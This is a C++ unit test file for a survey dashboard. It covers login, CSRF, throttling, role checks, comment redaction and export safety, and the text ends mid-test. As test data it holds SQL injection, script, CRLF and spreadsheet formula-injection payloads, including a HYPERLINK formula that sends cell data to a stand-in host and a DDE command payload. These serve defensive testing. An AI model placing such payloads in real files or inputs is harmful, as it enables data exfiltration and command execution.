// Dashboard unit tests: parameters, passwords, store methods, and the handler's security paths.
#include "auth.h"
#include "exports.h"
#include "page_login.h"
#include "params.h"
#include "pg/test_db.h"
#include "suara/analytics/csv.h"
#include "suara/analytics/redact.h"
#include "suara/analytics/report_csv.h"
#include "suara/analytics/simulate.h"
#include "suara/sync/protocol.h"
#include "suara/sync/server/dashboard/admin.h"
#include "suara/sync/server/dashboard/dashboard.h"
#include "suara/sync/server/store.h"

#include <algorithm>
#include <atomic>
#include <catch2/catch.hpp>
#include <cmath>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <thread>
#include <vector>

using namespace suara;
using namespace suara::sync;
using namespace suara::sync::dashboard;
namespace fs = std::filesystem;

TEST_CASE("dashboard: strict parameters", "[dashboard]") {
    const std::set<std::string> allowed = {"a", "b"};
    auto ok = parseParams("a=1&b=x%20y+z", allowed);
    REQUIRE(ok);
    CHECK(ok->at("a") == "1");
    CHECK(ok->at("b") == "x y z");
    CHECK_FALSE(parseParams("a=1&a=2", allowed));              // duplicate
    CHECK_FALSE(parseParams("c=1", allowed));                  // unknown
    CHECK_FALSE(parseParams("a=%zz", allowed));                // broken escape
    CHECK_FALSE(parseParams("a=%0d%0aSet-Cookie:x", allowed)); // CRLF
    CHECK_FALSE(parseParams("a=%ff", allowed));                // invalid UTF-8
    CHECK(parseParams("a=%C3%A9", allowed));                   // valid UTF-8
    CHECK(cookieValue("x=1; suara_session=abc; y=2", "suara_session") == "abc");
    CHECK(cookieValue("suara_session_x=abc", "suara_session").empty());
}

TEST_CASE("dashboard: filters are validated and resolved", "[dashboard]") {
    auto registry = analytics::loadDefaultInstruments();
    REQUIRE(registry);
    const int64_t today = *analytics::parseDay("2026-11-21"); // a Saturday
    auto f = parseFilter({{"period", "week"}}, *registry, today);
    REQUIRE(f);
    CHECK(analytics::formatDay(f->fromDay) == "2026-11-16");
    CHECK(analytics::formatDay(f->toDay) == "2026-11-22");
    f = parseFilter({{"period", "quarter"}, {"date", "2026-05-02"}}, *registry, today);
    REQUIRE(f);
    CHECK(analytics::formatDay(f->fromDay) == "2026-04-01");
    CHECK(analytics::formatDay(f->toDay) == "2026-06-30");
    f = parseFilter({{"period", "custom"}, {"from", "2026-01-01"}, {"to", "2026-01-31"}}, *registry, today);
    REQUIRE(f);
    CHECK(f->toDay - f->fromDay == 30);
    CHECK_FALSE(parseFilter({{"office", "53.01' OR 1=1 --"}}, *registry, today));
    CHECK_FALSE(parseFilter({{"office", "<script>"}}, *registry, today));
    CHECK_FALSE(parseFilter({{"period", "decade"}}, *registry, today));
    CHECK_FALSE(parseFilter({{"date", "2026-13-01"}}, *registry, today));
    CHECK_FALSE(parseFilter({{"instrument", "nope"}}, *registry, today));
    CHECK_FALSE(
        parseFilter({{"period", "custom"}, {"from", "2026-02-01"}, {"to", "2026-01-01"}}, *registry, today));
    CHECK_FALSE(parseFilter({{"sort", "csi;drop"}}, *registry, today));
}

TEST_CASE("dashboard: the throttling address trusts X-Real-IP only from the configured proxy",
          "[dashboard]") {
    WebRequest r;
    r.remoteAddr = "127.0.0.1";
    r.realIp = "203.0.113.7";
    CHECK(clientAddress(r, "127.0.0.1") == "203.0.113.7");
    // Any other local process is a loopback peer too: without a configured proxy it is not believed.
    CHECK(clientAddress(r, "") == "127.0.0.1");
    r.remoteAddr = "::1";
    CHECK(clientAddress(r, "127.0.0.1") == "::1");
    r.remoteAddr = "127.0.0.1";
    r.realIp = "203.0.113.7\r\nX: y";
    CHECK(clientAddress(r, "127.0.0.1") == "127.0.0.1");
    r.remoteAddr = "198.51.100.2";
    r.realIp = "203.0.113.7";
    CHECK(clientAddress(r, "127.0.0.1") == "198.51.100.2");
}

TEST_CASE("dashboard: argon2id passwords", "[dashboard]") {
    auto h = hashPassword("correct horse battery");
    REQUIRE(h);
    CHECK(h->rfind("$argon2id$", 0) == 0);
    CHECK(verifyPassword(*h, "correct horse battery"));
    CHECK_FALSE(verifyPassword(*h, "correct horse batterY"));
    auto h2 = hashPassword("correct horse battery");
    REQUIRE(h2);
    CHECK(*h != *h2); // random salt
    CHECK(randomToken().size() == 64);
    CHECK(randomToken() != randomToken());
}

namespace {

struct Fixture {
    fs::path dir = fs::temp_directory_path() / ("suara-dash-" + randomNonce());
    test::TestDb database{dir}; // SQLite file in dir, or a fresh PostgreSQL database (dashboard_test_pg)
    std::unique_ptr<Store> store;
    analytics::InstrumentRegistry registry = *analytics::loadDefaultInstruments();
    Fixture() {
        fs::create_directories(dir);
        auto s = openStore(database.spec());
        REQUIRE(s);
        store = std::move(*s);
        REQUIRE(store->addOffice({"53.01", "Kota Kupang", 480}));
        REQUIRE(store->addOffice({"53.02", "Kabupaten Kupang", 480}));
        REQUIRE(store->addUser({"admin", Role::Admin, "", *hashPassword("admin-password-1"), 1, {}, false}));
        REQUIRE(store->addUser(
            {"kupang", Role::Office, "53.01", *hashPassword("office-password-1"), 1, {}, false}));
    }
    ~Fixture() {
        store.reset();
        fs::remove_all(dir);
    }
};

WebReply post(Dashboard& d, const std::string& path, const std::string& body, const std::string& cookie,
              int64_t now, const std::string& query = {}) {
    WebRequest r{"POST", path, query, body, "application/x-www-form-urlencoded", cookie, "127.0.0.9", ""};
    return d.handleAt(r, now);
}
WebReply get(Dashboard& d, const std::string& path, const std::string& query, const std::string& cookie,
             int64_t now) {
    return d.handleAt(WebRequest{"GET", path, query, "", "", cookie, "127.0.0.9", ""}, now);
}
std::string header(const WebReply& r, const std::string& name) {
    for (const auto& [k, v] : r.headers) {
        if (k == name) return v;
    }
    return {};
}
std::string sessionFrom(const WebReply& r) {
    const std::string c = header(r, "Set-Cookie");
    const size_t eq = c.find('='), semi = c.find(';');
    return c.substr(eq + 1, semi - eq - 1);
}
std::string loginToken(const WebReply& page) {
    const std::string c = header(page, "Set-Cookie");
    return c.substr(c.find('=') + 1, 64);
}

} // namespace

TEST_CASE("dashboard: store methods round-trip", "[dashboard]") {
    Fixture fx;
    Store& s = *fx.store;
    CHECK_FALSE(
        s.addUser({"admin", Role::Admin, "", *hashPassword("x-password-22"), 1, {}, false})); // exists
    CHECK_FALSE(s.addUser(
        {"ghost", Role::Office, "99.99", *hashPassword("x-password-22"), 1, {}, false})); // no office
    CHECK_FALSE(s.addUser({"bad name", Role::Admin, "", *hashPassword("x-password-22"), 1, {}, false}));
    auto users = s.users();
    REQUIRE(users);
    REQUIRE(users->size() == 2);
    REQUIRE(s.addSession({"h1", "admin", "csrf1", 100, 200}));
    CHECK(s.findSession("h1", 150)->has_value());
    CHECK_FALSE(s.findSession("h1", 200)->has_value()); // expired
    REQUIRE(s.deleteSession("h1"));
    CHECK_FALSE(s.findSession("h1", 150)->has_value());
    CHECK(*s.addLoginFailure("user:x", 10) == 1);
    CHECK(*s.addLoginFailure("user:x", 20) == 2);
    CHECK(s.loginFailures("user:x")->count == 2);
    CHECK(s.loginFailures("user:x")->lastMs == 20);
    REQUIRE(s.clearLoginFailures("user:x"));
    CHECK(s.loginFailures("user:x")->count == 0);
    REQUIRE(s.setPopulation({"53.01", 100, 130, 5000, "admin", 1}));
    REQUIRE(s.setPopulation({"53.01", 100, 130, 6000, "admin", 2}));
    CHECK((*s.findPopulation("53.01", 100, 130))->population == 6000);
    CHECK_FALSE(s.findPopulation("53.01", 100, 131)->has_value());
    CHECK_FALSE(s.setPopulation({"99.99", 100, 130, 1, "admin", 1}));
    CHECK_FALSE(s.setPopulation({"53.01", 100, 130, 0, "admin", 1}));
}

TEST_CASE("dashboard: login, CSRF, fixation, roles and throttling", "[dashboard]") {
    Fixture fx;
    DashboardOptions o;
    o.secureCookie = false;
    Dashboard d(*fx.store, fx.registry, o);
    const int64_t now = 1'790'000'000'000;

    // Not logged in: pages redirect to the login, POSTs are refused.
    CHECK(get(d, "/dashboard", "", "", now).status == 303);
    CHECK(post(d, "/dashboard/office/53.01/population", "population=5", "", now).status == 403);

    // Login needs the double-submit token; a planted session id is never promoted.
    const WebReply page = get(d, "/dashboard/login", "", "", now);
    REQUIRE(page.status == 200);
    CHECK(header(page, "Set-Cookie").find("HttpOnly; SameSite=Strict") != std::string::npos);
    const std::string t = loginToken(page);
    const std::string planted = std::string(64, 'a');
    CHECK(
        post(d, "/dashboard/login", "user=admin&password=admin-password-1", "suara_login=" + t, now).status ==
        403);
    const WebReply ok = post(d, "/dashboard/login", "csrf=" + t + "&user=admin&password=admin-password-1",
                             "suara_login=" + t + "; suara_session=" + planted, now);
    REQUIRE(ok.status == 303);
    const std::string session = sessionFrom(ok);
    CHECK(session.size() == 64);
    CHECK(session != planted);
    CHECK(get(d, "/dashboard", "", "suara_session=" + planted, now).status == 303);
    const WebReply overview = get(d, "/dashboard", "", "suara_session=" + session, now);
    CHECK(overview.status == 200);
    CHECK(header(overview, "Content-Security-Policy").find("default-src 'none'") != std::string::npos);

    // CSRF on state changes: missing or wrong token changes nothing.
    auto pop = [&](const std::string& body) {
        return post(d, "/dashboard/office/53.01/population", body, "suara_session=" + session, now,
                    "period=custom&from=2026-01-01&to=2026-01-31");
    };
    const int64_t jan1 = *analytics::parseDay("2026-01-01"), jan31 = *analytics::parseDay("2026-01-31");
    CHECK(pop("population=5000").status == 403);
    CHECK(pop("population=5000&csrf=" + std::string(64, '0')).status == 403);
    CHECK_FALSE(fx.store->findPopulation("53.01", jan1, jan31)->has_value());
    auto s = fx.store->findSession(sha256Hex(session), now);
    REQUIRE(s->has_value());
    CHECK(pop("population=5000&csrf=" + (*s)->csrfToken).status == 303);
    CHECK((*fx.store->findPopulation("53.01", jan1, jan31))->population == 5000);

    // Injection attempts in filters: 400, nothing echoed.
    for (const char* q : {"office=53.01'%20OR%201=1--", "period=<script>", "date=2026-01-01%0d%0aX:1",
                          "sort=a&sort=b", "evil=1"}) {
        const WebReply r = get(d, "/dashboard", q, "suara_session=" + session, now);
        CHECK(r.status == 400);
        CHECK(r.body.find("<script>") == std::string::npos);
        CHECK(r.body.find("OR 1=1") == std::string::npos);
    }

    // An office user: own office yes, other office and raw export 403, overview redirects to own.
    const WebReply page2 = get(d, "/dashboard/login", "", "", now);
    const std::string t2 = loginToken(page2);
    const WebReply ok2 = post(d, "/dashboard/login", "csrf=" + t2 + "&user=kupang&password=office-password-1",
                              "suara_login=" + t2, now);
    REQUIRE(ok2.status == 303);
    const std::string office = "suara_session=" + sessionFrom(ok2);
    CHECK(get(d, "/dashboard/office/53.01", "", office, now).status == 200);
    CHECK(get(d, "/dashboard/office/53.02", "", office, now).status == 403);
    CHECK(get(d, "/dashboard/office/53.02", "format=csv", office, now).status == 403);
    CHECK(get(d, "/dashboard/responses.csv", "", office, now).status == 403);
    CHECK(header(get(d, "/dashboard", "", office, now), "Location").rfind("/dashboard/office/53.01?", 0) ==
          0);

    // Logout deletes the session.
    REQUIRE(post(d, "/dashboard/logout", "csrf=" + (*s)->csrfToken, "suara_session=" + session, now).status ==
            303);
    CHECK_FALSE(fx.store->findSession(sha256Hex(session), now)->has_value());

    // Throttling: 5 free failures, then 429 with Retry-After, and the right password waits too.
    for (int i = 0; i < 5; ++i) {
        CHECK(post(d, "/dashboard/login", "csrf=" + t + "&user=admin&password=wrong", "suara_login=" + t,
                   now + i)
                  .status == 401);
    }
    const WebReply slow = post(d, "/dashboard/login", "csrf=" + t + "&user=admin&password=admin-password-1",
                               "suara_login=" + t, now + 10);
    CHECK(slow.status == 429);
    CHECK(!header(slow, "Retry-After").empty());
    CHECK(fx.store->loginFailures("user:admin")->count == 5);
    CHECK(post(d, "/dashboard/login", "csrf=" + t + "&user=admin&password=admin-password-1",
               "suara_login=" + t, now + 4 + 1000 + 1)
              .status == 303);
    CHECK(fx.store->loginFailures("user:admin")->count == 0);

    // Logging in again over a live session ends that session: one login, one id.
    const WebReply first = post(d, "/dashboard/login", "csrf=" + t + "&user=admin&password=admin-password-1",
                                "suara_login=" + t, now + 2000);
    REQUIRE(first.status == 303);
    const std::string firstId = sessionFrom(first);
    const WebReply second = post(d, "/dashboard/login", "csrf=" + t + "&user=admin&password=admin-password-1",
                                 "suara_login=" + t + "; suara_session=" + firstId, now + 2001);
    REQUIRE(second.status == 303);
    CHECK_FALSE(fx.store->findSession(sha256Hex(firstId), now + 2002)->has_value());
    CHECK(fx.store->findSession(sha256Hex(sessionFrom(second)), now + 2002)->has_value());
}

TEST_CASE("dashboard: a burst of wrong logins gets exactly the free checks", "[dashboard]") {
    // 24 simultaneous tries all read "0 failures" before any of them is recorded. Counting the
    // failure after argon2 let every one of them check a password; counting first lets 5 through.
    Fixture fx;
    DashboardOptions o;
    const int64_t now = 1'790'000'000'000;
    constexpr int kBurst = 24;
    std::atomic<int> checked{0}, throttled{0}, errors{0};
    std::atomic<bool> go{false};
    std::vector<std::thread> threads;
    for (int i = 0; i < kBurst; ++i) {
        threads.emplace_back([&] {
            while (!go.load()) std::this_thread::yield();
            auto r = login(*fx.store, o, "admin", "wrong-password", "203.0.113.9", now);
            if (!r)
                ++errors;
            else if (r->retryAfterS > 0)
                ++throttled;
            else if (!r->ok)
                ++checked;
        });
    }
    go = true;
    for (auto& t : threads) t.join();
    CHECK(errors == 0);
    CHECK(checked == o.freeLoginFailures);
    CHECK(throttled == kBurst - o.freeLoginFailures);
    // Stored afterwards: at least the checked attempts are counted, and the right password waits.
    CHECK(fx.store->loginFailures("user:admin")->count >= o.freeLoginFailures);
    CHECK(fx.store->loginFailures("ip:203.0.113.9")->count >= o.freeLoginFailures);
    auto right = login(*fx.store, o, "admin", "admin-password-1", "203.0.113.9", now + 1);
    REQUIRE(right);
    CHECK_FALSE(right->ok);
    CHECK(right->retryAfterS > 0);
}

TEST_CASE("dashboard: exports neutralise formula cells; XLSX writes text as strings",
          "[dashboard][security]") {
    Fixture fx;
    DashboardOptions o;
    o.secureCookie = false;
    Dashboard d(*fx.store, fx.registry, o);
    const int64_t now = 1'790'000'000'000;
    const analytics::Instrument* in = fx.registry.find("servqual-ektp-18");
    REQUIRE(in);
    REQUIRE(fx.store->addKiosk({"K-001", "53.01", generateKeyPair().publicKey, 1, {}, {}, 0}));
    analytics::SimulateOptions so;
    so.kioskId = "K-001";
    analytics::Simulator sim(*in, so);
    std::vector<analytics::Response> sent;
    std::vector<IngestRecord> batch;
    for (int i = 0; i < 6; ++i) {
        analytics::Response r = sim.next();
        r.seq = i + 1;
        r.submittedAtMs = *analytics::parseDay("2026-01-10") * 86'400'000 + i * 60'000;
        r.startedAtMs = r.submittedAtMs - 60'000;
        r.utcOffsetMinutes = 480;
        r.comment = i == 0   ? "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")"
                    : i == 1 ? "@SUM(1+1)"
                             : "baik";
        if (i == 2) r.service = "=cmd|' /C calc'!A0";
        sent.push_back(r);
        batch.push_back({r, in, encodeRecord(r), recordHash(r), {}, {}});
    }
    auto ing = fx.store->ingest("K-001", randomNonce(), batch, now, 300000);
    REQUIRE(ing);

    const WebReply page = get(d, "/dashboard/login", "", "", now);
    const std::string t = loginToken(page);
    const WebReply ok = post(d, "/dashboard/login", "csrf=" + t + "&user=admin&password=admin-password-1",
                             "suara_login=" + t, now);
    REQUIRE(ok.status == 303);
    const WebReply raw = get(d, "/dashboard/responses.csv", "period=custom&from=2026-01-01&to=2026-01-31",
                             "suara_session=" + sessionFrom(ok), now);
    REQUIRE(raw.status == 200);
    CHECK(raw.body.find(",\"'=HYPERLINK(") != std::string::npos);
    CHECK(raw.body.find(",'@SUM(") != std::string::npos);
    CHECK(raw.body.find(",'=cmd|") != std::string::npos);
    for (const char* bad : {",=", ",@", ",\"="}) CHECK(raw.body.find(bad) == std::string::npos);
    // The raw export still reads back to the stored records (what `suara report` counts).
    auto back = analytics::readCsvResponses(raw.body, *in);
    REQUIRE(back.ok());
    REQUIRE(back->size() == sent.size());
    for (const auto& r : sent) CHECK(std::find(back->begin(), back->end(), r) != back->end());

    // The office tables' CSV and XLSX writers: numbers stay numbers, text is guarded / a string.
    Table table{"t",
                "=title",
                {"=col", "n"},
                {},
                {{Cell::str("=1+2"), Cell::num(-3.5)}, {Cell::str("-x"), Cell::num(4)}}};
    const std::string csv = tablesToCsv({table}, analytics::Lang::Id);
    CHECK(csv.find("'=title\r\n'=col,n\r\n'=1+2,-3.5\r\n'-x,4\r\n") != std::string::npos);
    auto xlsx = tablesToXlsx({table}, analytics::Lang::Id);
    REQUIRE(xlsx);
    const fs::path file = fx.dir / "t.xlsx";
    { std::ofstream(file, std::ios::binary) << *xlsx; }
    const fs::path sheet = fx.dir / "sheet.xml";
    REQUIRE(
        std::system(("unzip -p '" + file.string() + "' xl/worksheets/sheet1.xml > '" + sheet.string() + "'")
                        .c_str()) == 0);
    auto xml = analytics::readWholeFile(sheet);
    REQUIRE(xml);
    CHECK(xml->find("<f>") == std::string::npos);
    CHECK(xml->find("<c r=\"A3\" t=\"s\">") != std::string::npos); // "=1+2" is a shared string
    CHECK(xml->find("<c r=\"B3\"><v>-3.5</v>") != std::string::npos);
}

TEST_CASE("dashboard: the kiosk list shows each kiosk's software version", "[dashboard]") {
    Fixture fx;
    DashboardOptions o;
    o.secureCookie = false;
    Dashboard d(*fx.store, fx.registry, o);
    const int64_t now = 1'790'000'000'000;
    REQUIRE(fx.store->addKiosk({"K-001", "53.01", generateKeyPair().publicKey, 1, {}, {}, 0}));
    REQUIRE(fx.store->addKiosk({"K-002", "53.01", generateKeyPair().publicKey, 1, {}, {}, 0}));
    REQUIRE(fx.store->addKiosk({"K-003", "53.01", generateKeyPair().publicKey, 1, {}, {}, 0}));
    // What the ingest of a version-2 and a version-1 batch records; K-003 has never synced.
    REQUIRE(fx.store->ingest("K-001", randomNonce(), {}, now - 60'000, 300000, {2, "0.3.1-1"}));
    REQUIRE(fx.store->ingest("K-002", randomNonce(), {}, now - 60'000, 300000, {1, ""}));

    const WebReply page = get(d, "/dashboard/login", "", "", now);
    const std::string t = loginToken(page);
    const WebReply ok = post(d, "/dashboard/login", "csrf=" + t + "&user=admin&password=admin-password-1",
                             "suara_login=" + t, now);
    REQUIRE(ok.status == 303);
    const std::string cookie = "suara_session=" + sessionFrom(ok);
    const WebReply id = get(d, "/dashboard/office/53.01", "", cookie, now);
    REQUIRE(id.status == 200);
    const std::string& html = id.body;
    const size_t table = html.find("id=\"kiosks\"");
    REQUIRE(table != std::string::npos);
    const std::string kiosks = html.substr(table, html.find("</table>", table) - table);
    CHECK(kiosks.find(">Versi<") != std::string::npos);
    CHECK(kiosks.find(">0.3.1-1</span>") != std::string::npos);
    CHECK(kiosks.find("title=\"sejak ") != std::string::npos);
    CHECK(kiosks.find("tidak dikirim <span class=\"badge b-warn\">protokol lama (v1)</span>") !=
          std::string::npos);
    const WebReply en = get(d, "/dashboard/office/53.01", "lang=en", cookie, now);
    REQUIRE(en.status == 200);
    CHECK(en.body.find(">Version<") != std::string::npos);
    CHECK(en.body.find("not sent <span class=\"badge b-warn\">old protocol (v1)</span>") !=
          std::string::npos);
    // The export keeps the bare version (empty when unknown).
    const WebReply csv = get(d, "/dashboard/office/53.01", "format=csv", cookie, now);
    REQUIRE(csv.status == 200);
    CHECK(csv.body.find("0.3.1-1") != std::string::npos);
}

TEST_CASE("dashboard: a comment is removed for good from the office page, by its office only",
          "[dashboard]") {
    Fixture fx;
    DashboardOptions o;
    o.secureCookie = false;
    Dashboard d(*fx.store, fx.registry, o);
    const int64_t now = 1'790'000'000'000;
    const analytics::Instrument* in = fx.registry.find("servqual-ektp-18");
    REQUIRE(in);
    REQUIRE(fx.store->addKiosk({"K-001", "53.01", generateKeyPair().publicKey, 1, {}, {}, 0}));
    REQUIRE(fx.store->addKiosk({"K-002", "53.02", generateKeyPair().publicKey, 1, {}, {}, 0}));
    const int64_t day = *analytics::parseDay("2026-01-10");
    auto ingestOne = [&](const std::string& kiosk, const std::string& office, const std::string& comment) {
        analytics::SimulateOptions so;
        so.kioskId = kiosk;
        so.officeId = office; // the API checks it against the kiosk's; this test calls the store
        so.seed = std::hash<std::string>{}(kiosk); // the simulated uuid derives from the seed
        analytics::Response r = analytics::Simulator(*in, so).next();
        r.seq = 1;
        r.submittedAtMs = day * 86'400'000;
        r.startedAtMs = r.submittedAtMs - 60'000;
        r.utcOffsetMinutes = 480;
        r.comment = comment;
        std::vector<IngestRecord> batch{{r, in, encodeRecord(r), recordHash(r), {}, {}}};
        REQUIRE(fx.store->ingest(kiosk, randomNonce(), batch, now, 300000));
        return r.uuid;
    };
    const std::string mine = ingestOne("K-001", "53.01", "petugas Budi sangat membantu");
    const std::string other = ingestOne("K-002", "53.02", "antrean panjang sekali");
    REQUIRE(mine != other);

    auto login = [&](const std::string& user, const std::string& password) {
        const std::string t = loginToken(get(d, "/dashboard/login", "", "", now));
        const WebReply ok =
            post(d, "/dashboard/login", "csrf=" + t + "&user=" + user + "&password=" + password,
                 "suara_login=" + t, now);
        REQUIRE(ok.status == 303);
        const std::string session = sessionFrom(ok);
        return std::pair{"suara_session=" + session,
                         (*fx.store->findSession(sha256Hex(session), now))->csrfToken};
    };
    const auto [cookie, csrf] = login("kupang", "office-password-1");
    const std::string query = "period=custom&from=2026-01-01&to=2026-01-31";
    auto storedComment = [&](const std::string& uuid) { return (*fx.store->findComment(uuid))->text; };

    // The office page offers the removal behind a confirmation, carrying the session's CSRF token.
    const WebReply page = get(d, "/dashboard/office/53.01", query, cookie, now);
    REQUIRE(page.status == 200);
    CHECK(page.body.find("petugas Budi sangat membantu") != std::string::npos);
    CHECK(page.body.find("/dashboard/office/53.01/comments/redact?") != std::string::npos);
    CHECK(page.body.find("name=\"uuid\" value=\"" + mine + "\"") != std::string::npos);

    auto redact = [&](const std::string& office, const std::string& body) {
        return post(d, "/dashboard/office/" + office + "/comments/redact", body, cookie, now, query);
    };
    // Without the token, or for another office's response (even through the own office's address),
    // nothing changes and no audit entry is written.
    CHECK(redact("53.01", "uuid=" + mine).status == 403);
    CHECK(redact("53.02", "csrf=" + csrf + "&uuid=" + other).status == 403);
    CHECK(redact("53.01", "csrf=" + csrf + "&uuid=" + other).status == 400);
    CHECK(redact("53.01", "csrf=" + csrf + "&uuid=no-such-uuid").status == 400);
    CHECK(storedComment(mine) == "petugas Budi sangat membantu");
    CHECK(storedComment(other) == "antrean panjang sekali");
    CHECK(fx.store->auditLog(10)->empty());

    // The office's own comment: replaced in the database, audited without the text, page updated.
    const WebReply done = redact("53.01", "csrf=" + csrf + "&uuid=" + mine);
    REQUIRE(done.status == 303);
    CHECK(header(done, "Location").rfind("/dashboard/office/53.01?", 0) == 0);
    CHECK(header(done, "Location").find("from=2026-01-01") != std::string::npos);
    CHECK(storedComment(mine) == analytics::kRemovedComment);
    CHECK(storedComment(other) == "antrean panjang sekali");
    auto log = fx.store->auditLog(10);
    REQUIRE(log->size() == 1);
    CHECK(log->front().action == audit::kCommentRedact);
    CHECK(log->front().actor == "kupang");
    CHECK(log->front().target == mine);
    CHECK(log->front().detail.find("Budi") == std::string::npos);
    const WebReply after = get(d, "/dashboard/office/53.01", query, cookie, now);
    CHECK(after.body.find("petugas Budi") == std::string::npos);
    CHECK(after.body.find("name=\"uuid\" value=\"" + mine + "\"") ==
          std::string::npos);                                               // nothing left to remove
    CHECK(redact("53.01", "csrf=" + csrf + "&uuid=" + mine).status == 400); // already removed
    CHECK(fx.store->auditLog(10)->size() == 1);

    // An admin may remove any office's comment.
    const auto [adminCookie, adminCsrf] = login("admin", "admin-password-1");
    CHECK(post(d, "/dashboard/office/53.02/comments/redact", "csrf=" + adminCsrf + "&uuid=" + other,
               adminCookie, now, query)
              .status == 303);
    CHECK(storedComment(other) == analytics::kRemovedComment);
}

namespace {

// The number in cell `ref` ("F3") of a worksheet's XML, NaN when the cell has none.
double xlsxNumber(const std::string& xml, const std::string& ref) {
    const size_t at = xml.find("<c r=\"" + ref + "\"");
    if (at == std::string::npos) return NAN;
    const size_t end = xml.find("</c>", at);
    const size_t v = xml.find("<v>", at);
    if (v == std::string::npos || v > end || xml.find(" t=\"s\"", at) < xml.find('>', at)) return NAN;
    return std::stod(xml.substr(v + 3, xml.find("</v>", v) - v - 3));
}

bool close(double a, double b) {
    return std::fabs(a - b) <= 1e-12 * std::max(1.0, std::fabs(b));
}

} // namespace

TEST_CASE("dashboard: every estimate shows its 95 % interval; the exports carry the bounds as numbers",
          "[dashboard]") {
    Fixture fx;
    DashboardOptions o;
    o.secureCookie = false;
    Dashboard d(*fx.store, fx.registry, o);
    const int64_t now = 1'790'000'000'000;
    const analytics::Instrument* in = fx.registry.find("servqual-ektp-18");
    REQUIRE(in);
    REQUIRE(fx.store->addKiosk({"K-001", "53.01", generateKeyPair().publicKey, 1, {}, {}, 0}));
    analytics::SimulateOptions so;
    so.kioskId = "K-001";
    analytics::Simulator sim(*in, so);
    std::vector<IngestRecord> batch;
    analytics::Accumulator acc(*in);
    for (int i = 0; i < 80; ++i) {
        analytics::Response r = sim.next();
        r.seq = i + 1;
        r.submittedAtMs = *analytics::parseDay("2026-01-10") * 86'400'000 + i * 60'000;
        r.startedAtMs = r.submittedAtMs - 60'000;
        r.utcOffsetMinutes = 480;
        acc.add(r);
        batch.push_back({r, in, encodeRecord(r), recordHash(r), {}, {}});
    }
    REQUIRE(fx.store->ingest("K-001", randomNonce(), batch, now, 300000));
    analytics::ReportOptions ro;
    ro.suppressSmallCells = true;
    const analytics::Report rep = analytics::buildReport(*in, acc, ro);
    REQUIRE(rep.overall);
    const analytics::DimensionReport& dim = rep.dimensions[1];
    const analytics::ItemReport& item = rep.items[2];
    for (double v : {dim.gapCi[0], dim.gapCi[1], item.gapCi[0], rep.overall->csiCi[1]})
        REQUIRE(std::isfinite(v));

    const WebReply page = get(d, "/dashboard/login", "", "", now);
    const std::string t = loginToken(page);
    const WebReply ok = post(d, "/dashboard/login", "csrf=" + t + "&user=admin&password=admin-password-1",
                             "suara_login=" + t, now);
    REQUIRE(ok.status == 303);
    const std::string cookie = "suara_session=" + sessionFrom(ok);
    const std::string period = "period=custom&from=2026-01-01&to=2026-01-31";

    // The page: the value, then the bounds in brackets, in the page's language; data-v unchanged.
    for (const analytics::Lang lang : {analytics::Lang::Id, analytics::Lang::En}) {
        const bool en = lang == analytics::Lang::En;
        auto shown = [&](double v, const analytics::Interval& ci, int decimals) {
            return present::number(v, decimals, lang) + " <span class=\"ci\">(" +
                   present::number(ci[0], decimals, lang) + (en ? " to " : " s/d ") +
                   present::number(ci[1], decimals, lang) + ")</span>";
        };
        const WebReply office =
            get(d, "/dashboard/office/53.01", period + (en ? "&lang=en" : ""), cookie, now);
        REQUIRE(office.status == 200);
        const std::string& html = office.body;
        CHECK(html.find("<td class=\"n ci\" data-v=\"" + analytics::formatShortest(dim.gap) + "\">" +
                        shown(dim.gap, dim.gapCi, 3) + "</td>") != std::string::npos);
        CHECK(html.find(shown(dim.tkiPct, dim.tkiCi, 2)) != std::string::npos);
        CHECK(html.find("data-v=\"" + analytics::formatShortest(item.gap) + "\">" +
                        shown(item.gap, item.gapCi, 3)) != std::string::npos);
        CHECK(html.find(shown(item.perception.mean, item.perception.meanCi, 2)) != std::string::npos);
        REQUIRE(dim.expectation);
        CHECK(html.find(shown(dim.expectation->mean, dim.expectation->meanCi, 2)) != std::string::npos);
        CHECK(html.find(shown(dim.perception.mean, dim.perception.meanCi, 2)) != std::string::npos);
        // The tiles: the half-width beside the headline figure.
        const std::string pm = "\xC2\xB1\xC2\xA0";
        CHECK(html.find("<small class=\"pm\">" + pm +
                        present::number((rep.overall->gapCi[1] - rep.overall->gapCi[0]) / 2, 2, lang) +
                        "</small>") != std::string::npos);
        CHECK(html.find(present::tr(Label::CiNote, lang)) != std::string::npos);
        // The gap chart: one error bar per dimension, titled with the value and its interval.
        CHECK(html.find("<g class=\"ci\" stroke=\"#1d2733\" stroke-width=\"1.5\"><title>" +
                        esc(in->dimensions[1].name.in(lang) + ": " +
                            present::interval({dim.gap, dim.gapCi[0], dim.gapCi[1]}, 2, lang)) +
                        "</title>") != std::string::npos);
        // The E and P chart: an error bar on each bar, its tooltip naming the series.
        CHECK(html.find("<title>" +
                        esc(in->dimensions[1].name.in(lang) + " - " + present::tr(Label::ExpectationE, lang) +
                            ": " +
                            present::interval({dim.expectation->mean, dim.expectation->meanCi[0],
                                               dim.expectation->meanCi[1]},
                                              2, lang)) +
                        "</title>") != std::string::npos);
        const WebReply overview = get(d, "/dashboard", period + (en ? "&lang=en" : ""), cookie, now);
        REQUIRE(overview.status == 200);
        CHECK(overview.body.find("data-v=\"" + analytics::formatShortest(rep.overall->csiPct) + "\">" +
                                 shown(rep.overall->csiPct, rep.overall->csiCi, 1)) != std::string::npos);
    }

    // CSV: the bounds after every existing column, numbers in full precision.
    const WebReply csv = get(d, "/dashboard/office/53.01", period + "&format=csv", cookie, now);
    REQUIRE(csv.status == 200);
    CHECK(csv.body.find("id,Dimensi,Harapan (E),Persepsi (P),Gap,Tki (%),Kategori,alpha E,alpha P,"
                        "Harapan (E) (batas bawah 95 %),Harapan (E) (batas atas 95 %),"
                        "Persepsi (P) (batas bawah 95 %),Persepsi (P) (batas atas 95 %),"
                        "Gap (batas bawah 95 %),Gap (batas atas 95 %),Tki (%) (batas bawah 95 %),"
                        "Tki (%) (batas atas 95 %)\r\n") != std::string::npos);
    const size_t row = csv.body.find("\r\n" + dim.id + ",");
    REQUIRE(row != std::string::npos);
    const std::string line = csv.body.substr(row + 2, csv.body.find("\r\n", row + 2) - row - 2);
    REQUIRE(dim.expectation);
    std::string tail;
    for (const analytics::Interval* ci :
         {&dim.expectation->meanCi, &dim.perception.meanCi, &dim.gapCi, &dim.tkiCi})
        tail += "," + analytics::formatShortest((*ci)[0]) + "," + analytics::formatShortest((*ci)[1]);
    CHECK(line.size() > tail.size());
    CHECK(line.substr(line.size() - tail.size()) == tail);
